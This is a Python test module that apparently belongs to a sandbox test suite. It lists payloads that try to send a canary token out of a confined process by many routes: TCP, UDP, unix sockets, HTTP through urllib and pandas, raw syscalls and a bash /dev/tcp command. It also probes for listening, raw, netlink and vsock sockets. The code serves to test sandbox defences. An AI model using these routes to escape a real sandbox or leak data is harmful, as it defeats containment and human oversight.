"""Network: talking to anybody."""

from __future__ import annotations

from tests.sandbox.attacks.evidence import arrived, held
from tests.sandbox.attacks.payload import Family

network = Family("network")

network(
    "TCP",
    arrived,
    """
    import socket
    socket.create_connection(CANARY["tcp"], 2).sendall(CANARY["token"].encode())
""",
)
network(
    "TCP over IPv6",
    arrived,
    """
    import socket
    socket.create_connection(tuple(CANARY["tcp6"][:2]), 2).sendall(CANARY["token"].encode())
""",
    needs="IPv6 on loopback",
)
network(
    "TCP fast open, which connects without connect",
    arrived,
    """
    import socket
    one = socket.socket()
    one.sendto(CANARY["token"].encode(), 0x20000000, tuple(CANARY["tcp"]))
""",
    needs="TCP fast open",
)
network(
    "UDP",
    arrived,
    """
    import socket
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(CANARY["token"].encode(), tuple(CANARY["udp"]))
""",
)
network(
    "a unix socket at a path",
    arrived,
    """
    import socket
    one = socket.socket(socket.AF_UNIX)
    one.connect(CANARY["unix"])
    one.sendall(CANARY["token"].encode())
""",
)
network(
    "a unix datagram socket at a path",
    arrived,
    """
    import socket
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(CANARY["token"].encode(), CANARY["unix datagram"])
""",
)
network(
    "an abstract unix socket",
    arrived,
    """
    import socket
    one = socket.socket(socket.AF_UNIX)
    one.connect(CANARY["abstract"])
    one.sendall(CANARY["token"].encode())
""",
)
network(
    "HTTP, by urllib",
    arrived,
    """
    import urllib.request
    host, port = CANARY["http"]
    urllib.request.urlopen(f"http://{host}:{port}/{CANARY['token']}", timeout=2).read()
""",
)
network(
    "HTTP, by pandas.read_csv",
    arrived,
    """
    import pandas
    host, port = CANARY["http"]
    print(pandas.read_csv(f"http://{host}:{port}/{CANARY['token']}.csv"))
""",
)
network(
    "TCP, by raw system calls",
    arrived,
    """
    import struct
    host, port = CANARY["tcp"]
    one = call("socket", 2, 1, 0)
    address = struct.pack("=H", 2) + struct.pack(">H", port) + bytes([127, 0, 0, 1]) + bytes(8)
    call("connect", one, address, 16)
    call("write", one, b"token", 5)
""",
)
network(
    "TCP, by another program",
    arrived,
    """
    import subprocess
    host, port = CANARY["tcp"]
    subprocess.run(["/bin/bash", "-c", f"echo token > /dev/tcp/{host}/{port}"], timeout=5)
""",
    needs="bash",
)
network(
    "a port of its own, for others to connect to",
    arrived,
    """
    import socket
    with socket.socket() as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.bind(("127.0.0.1", CANARY["listen"]))
        one.listen()
        one.settimeout(5)
        one.accept()
""",
)
network(
    "a raw socket",
    held,
    """
    import socket
    one = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    time.sleep(0.3)
""",
    needs="CAP_NET_RAW, which no normal user has",
)
network(
    "a netlink socket, which lists the machine's interfaces",
    held,
    """
    import socket
    one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    time.sleep(0.3)
""",
)
network(
    "a socket to the kernel's ciphers",
    held,
    """
    import socket
    one = socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)
    time.sleep(0.3)
""",
    needs="AF_ALG",
)
network(
    "a socket to the hypervisor",
    held,
    """
    import socket
    one = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    time.sleep(0.3)
""",
    needs="AF_VSOCK",
)
